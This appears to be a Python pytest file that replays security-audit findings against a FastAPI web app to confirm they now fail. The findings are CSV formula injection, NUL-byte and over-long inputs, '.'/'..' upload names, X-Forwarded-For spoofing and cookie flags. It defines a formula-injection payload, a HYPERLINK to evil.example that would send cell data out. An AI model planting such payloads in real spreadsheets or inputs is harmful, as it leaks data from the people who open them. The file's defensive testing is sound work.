"""Issue 22: what an attacker or a careless user found, each attack replayed over HTTP and now
failing (SQLite and PostgreSQL): formula injection into exports (finding 5), unhandled errors
(finding 8) and the smaller findings (9)."""

from __future__ import annotations

import csv
import dataclasses
import io
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
import sqlalchemy as sa
from fastapi import FastAPI
from fastapi.testclient import TestClient

from shidian.platform.db.schema import audit_events, login_throttle
from shidian.web.middleware import LanguageAndHeaders
from tests.web.conftest import csrf_of
from tests.web.test_personal_data import private_tmp, staged  # noqa: F401  (a fixture)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture
def forget_throttle(web_app: FastAPI) -> Iterator[None]:
    """Wrong user names from the test client count against it: forget them after the test."""
    yield
    with web_app.state.engine.begin() as conn:
        conn.execute(login_throttle.delete().where(login_throttle.c.bucket.like("%testclient%")))


def test_a_formula_typed_as_a_user_name_is_text_in_audit_csv(web_app, client_for, forget_throttle):
    stranger = TestClient(web_app)
    token = csrf_of(stranger)
    answer = stranger.post("/login", data={"username": FORMULA, "password": "x", "csrf_token": token})
    assert answer.status_code == 401
    export = client_for("admin").get("/admin/audit.csv", params={"action": "auth.login_failed"})
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    targets = [r[6] for r in rows[1:]]
    assert "'" + FORMULA in targets and FORMULA not in targets
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


# Finding 8: each of these answered 500; now a clear 4xx in Chinese and nothing stored.


def _chinese_4xx(response) -> None:
    assert 400 <= response.status_code < 500, (response.status_code, response.text[:300])
    assert any("\u4e00" <= ch <= "\u9fff" for ch in response.text), response.text[:300]


def test_nul_bytes_in_query_parameters_and_form_fields(web_app, client_for, forget_throttle):
    officer = client_for("officer")
    for path in ("/drg/overview?run=%00", "/registry?q=%00", "/api/registry/patients?q=a%00b"):
        _chinese_4xx(officer.get(path))
    stranger = TestClient(web_app)
    token = csrf_of(stranger)
    _chinese_4xx(
        stranger.post("/login", data={"username": "ad\x00min", "password": "x", "csrf_token": token})
    )
    admin = client_for("admin")
    form = {"username": "nul\x00user", "password": "abcdefgh1234", "role": "leader", "unit_id": "1"}
    _chinese_4xx(admin.post("/admin/users", data=form))
    form = {"username": "nuluser2", "password": "abcdefgh1234", "role": "leader", "unit_id": "1"}
    _chinese_4xx(admin.post("/admin/users", data={**form, "display_name": "a\x00b"}))


def test_over_long_user_and_display_names(web_app, client_for, forget_throttle):
    stranger = TestClient(web_app)
    token = csrf_of(stranger)
    answer = stranger.post("/login", data={"username": "u" * 5000, "password": "x", "csrf_token": token})
    assert answer.status_code == 401  # as any wrong name: no such user
    admin = client_for("admin")
    form = {"password": "abcdefgh1234", "role": "leader", "unit_id": "1"}
    _chinese_4xx(admin.post("/admin/users", data={**form, "username": "u" * 65}))
    _chinese_4xx(
        admin.post("/admin/users", data={**form, "username": "longdisplay", "display_name": "名" * 201})
    )
    with web_app.state.engine.connect() as conn:
        names = set(conn.execute(sa.text("SELECT username FROM users")).scalars())
    assert "longdisplay" not in names and "u" * 65 not in names


@pytest.mark.usefixtures("private_tmp")
def test_an_insurance_upload_named_dot_or_dot_dot_is_refused(web_app, client_for):
    """… and leaves no staging folder, in the data directory or the system's temporary one."""
    officer = client_for("officer")
    for name in (".", ".."):
        answer = officer.post(
            "/insurance/imports",
            data={"name": "t", "policy_id": "county-2010", "csrf_token": officer.headers["X-CSRF-Token"]},
            files=[("files", (name, b"a,b\n1,2\n", "text/csv"))],
            follow_redirects=False,
        )
        _chinese_4xx(answer)
    assert staged(web_app) == [] and list(Path(tempfile.gettempdir()).iterdir()) == []


# Finding 9.


def _last_audit(app: FastAPI, action: str) -> sa.RowMapping:
    with app.state.engine.connect() as conn:
        return (
            conn.execute(
                sa.select(audit_events)
                .where(audit_events.c.action == action)
                .order_by(audit_events.c.id.desc())
            )
            .mappings()
            .first()
        )


def test_the_audit_ip_trusts_x_forwarded_for_only_from_configured_proxies(web_app, client_for):
    admin = client_for("admin")
    admin.get("/admin/audit.csv", headers={"X-Forwarded-For": "6.6.6.6"})
    assert _last_audit(web_app, "admin.audit_exported")["ip"] == "testclient"  # the header is ignored
    settings = web_app.state.settings
    web_app.state.settings = dataclasses.replace(
        settings, trusted_proxies=frozenset({"testclient", "10.0.0.2"})
    )
    try:
        admin.get("/admin/audit.csv", headers={"X-Forwarded-For": "6.6.6.6, 198.51.100.9, 10.0.0.2"})
    finally:
        web_app.state.settings = settings
    # behind trusted proxies: the last address that is not one of them (6.6.6.6 was client-made)
    assert _last_audit(web_app, "admin.audit_exported")["ip"] == "198.51.100.9"


def test_the_language_cookie_is_secure_when_secure_cookies_are_on(web_app, anonymous):
    plain = anonymous.get("/login?lang=en").headers["set-cookie"]
    assert "lang=en" in plain and "Secure" not in plain
    secure_app = FastAPI()
    secure_app.add_middleware(LanguageAndHeaders, secure=True)
    secure_app.get("/")(lambda: {"ok": True})
    cookie = TestClient(secure_app).get("/?lang=en").headers["set-cookie"]
    assert "lang=en" in cookie and "; Secure" in cookie and "HttpOnly" in cookie


def test_reading_the_audit_page_is_itself_audited(web_app, client_for):
    client_for("admin").get("/admin/audit", params={"action": "auth.login_failed", "page": 1})
    event = _last_audit(web_app, "admin.audit_browsed")
    assert event["username"] == "admin" and event["detail"]["action_filter"] == "auth.login_failed"
